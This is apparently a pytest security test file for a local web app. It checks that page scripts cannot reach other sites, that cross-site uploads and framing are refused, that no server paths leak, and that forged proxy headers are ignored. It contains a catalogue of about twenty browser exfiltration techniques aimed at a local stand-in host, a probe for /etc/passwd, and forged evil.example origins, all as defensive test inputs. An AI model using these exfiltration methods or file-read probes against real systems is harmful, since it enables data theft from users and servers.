"""The running app is closed to other sites. A script in its page can send nothing to another
machine. Other sites can send nothing to the app. The page shows no file path of the server."""

from __future__ import annotations

import json
import re
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import gradio
import httpx
import pytest
from http_client import Client
from running_app import ROOT, App


class Elsewhere(HTTPServer):
    """Another site, on this machine. asked: the requests that it has received."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Noting)
        self.asked: list[str] = []
        self.url = f"http://127.0.0.1:{self.server_port}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _Noting(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.asked.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/html")
        self.end_headers()

    do_POST = do_OPTIONS = do_GET

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.shutdown()
    server.server_close()


# Many ways for a script to send something.
SEND = """async (url) => {
  const add = (tag, fields) =>
    document.body.append(Object.assign(document.createElement(tag), fields));
  const tries = [
    () => fetch(url + "/fetch?secret"),
    () => fetch(url + "/no-cors?secret", { mode: "no-cors", method: "POST", body: "secret" }),
    () => navigator.sendBeacon(url + "/beacon", "secret"),
    () => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open("GET", url + "/xhr");
      request.send();
    }),
    () => new EventSource(url + "/events"),
    () => new WebSocket(url.replace("http", "ws") + "/socket"),
    () => add("img", { src: url + "/img?secret" }),
    () => add("script", { src: url + "/script.js" }),
    () => add("link", { rel: "stylesheet", href: url + "/style.css" }),
    () => add("link", { rel: "icon", href: url + "/icon.png" }),
    () => add("iframe", { src: url + "/frame" }),
    () => add("object", { data: url + "/object" }),
    () => add("embed", { src: url + "/embed" }),
    () => add("video", { src: url + "/video", autoplay: true }),
    () => add("div", { style: `background: url(${url}/background)` }),
    () => import(url + "/module.js"),
    () => new Worker(url + "/worker.js"),
    () => {
      add("form", { action: url + "/form", method: "post", id: "sent" });
      document.querySelector("#sent").submit();
    },
    () => {
      document.head.append(Object.assign(document.createElement("base"), { href: url }));
      return fetch("relative?secret");
    },
  ];
  for (const one of tries) try { await one(); } catch {}
  return tries.length;
}"""


def test_a_script_in_the_page_can_send_nothing_elsewhere(
    browser: Any, app: App, elsewhere: Elsewhere
) -> None:
    page = browser.new_page()
    page.goto(app.url)
    page.wait_for_selector("#fm-view")
    tries = page.evaluate(SEND, elsewhere.url)
    page.wait_for_timeout(500)
    page.close()
    assert tries > 15
    assert elsewhere.asked == []


def test_other_sites_can_send_nothing_here(browser: Any, app: App, elsewhere: Elsewhere) -> None:
    page = browser.new_page()
    page.goto(elsewhere.url)
    found = page.evaluate(
        """async (url) => {
          const file = new FormData();
          file.append("files", new Blob(["x"]), "x.json");
          const options = { method: "POST", body: file, mode: "no-cors" };
          await fetch(url + "gradio_api/upload", options).catch(() => 0);
          const read = await fetch(url + "config").then((r) => r.text(), () => "refused");
          return read;
        }""",
        app.url,
    )
    page.close()
    assert "components" not in found
    answer = httpx.post(
        app.url + "gradio_api/upload",
        files={"files": ("x.json", b"x")},
        headers={"origin": elsewhere.url},
        trust_env=False,
    )
    assert answer.status_code == 403


def test_another_site_cannot_show_the_page_in_a_frame(
    browser: Any, app: App, elsewhere: Elsewhere
) -> None:
    page = browser.new_page()
    page.goto(elsewhere.url)
    page.evaluate(
        "(url) => document.body.append("
        "Object.assign(document.createElement('iframe'), { src: url }))",
        app.url,
    )
    page.wait_for_timeout(1500)
    assert page.frames[-1].query_selector("#fm-view") is None
    page.close()


def test_the_page_shows_no_file_path_of_the_server(app: App) -> None:
    client = Client(app.url)
    texts = [
        client.http.get("").text,
        json.dumps(client.config),
        client.http.get("gradio_api/info").text,
        client.http.get(f"gradio_api/file={ROOT}/app.py").text.replace(f"{ROOT}/app.py", ""),
        client.http.get("gradio_api/file=/etc/passwd").text,
        client.http.post("gradio_api/queue/join", content=b"{").text,
        client.http.get("sequoia-web/x/modules.js").text,
    ]
    paths = [str(ROOT), str(Path(gradio.__file__).parent.parent), str(Path.home()) + "/"]
    for text in texts:
        assert not [path for path in paths if path in text]


def test_a_request_that_never_ends_keeps_nobody_waiting(app: App) -> None:
    host, port = app.url.removeprefix("http://").rstrip("/").split(":")
    with socket.create_connection((host, int(port))) as idle:
        idle.sendall(
            b"POST /gradio_api/queue/join HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 9\r\n\r\n"
        )
        assert httpx.get(app.url, trust_env=False, timeout=30).status_code == 200


# -- behind a proxy --------------------------------------------------------------------------------


def test_headers_of_a_proxy_that_is_not_trusted_are_ignored(app: App) -> None:
    forged = {"origin": "http://evil.example", "x-forwarded-for": "203.0.113.7"}
    elsewhere = httpx.HTTPTransport(local_address="127.0.0.2")
    with httpx.Client(transport=elsewhere, timeout=30) as client:
        client.post(app.url, headers=forged)
    app.printed("from 127.0.0.2: 403")


def measured(http: httpx.Client, client: Client) -> str:
    """What the page says first about a press of Measure, sent by `http`."""
    client.http = http
    assert client.join("hardware_measure").status_code == 200
    for event in client.events():
        if words := re.search(r"Not measured: [^\"]*|\"share\\?\":", str(event)):
            return words[0]
    raise AssertionError


def test_measuring_through_a_proxy_needs_the_owners_link(app: App) -> None:
    link = re.findall(r"http\S+", app.printed("The owner's link: "))[0]
    proxied = {"x-forwarded-for": "203.0.113.7"}
    options = {"base_url": app.url, "timeout": 60, "trust_env": False, "follow_redirects": True}
    with httpx.Client(**options, headers=proxied) as visitor:
        assert "link, which the program printed" in measured(visitor, Client(app.url))
        answer = visitor.get(link)
        assert (answer.status_code, str(answer.url)) == (200, app.url)
        assert "share" in measured(visitor, Client(app.url))
        visitor.post("/", headers={"origin": "http://evil.example"})
    app.printed("from 203.0.113.7: 403")
    with httpx.Client(**options) as local:
        assert "share" in measured(local, Client(app.url))
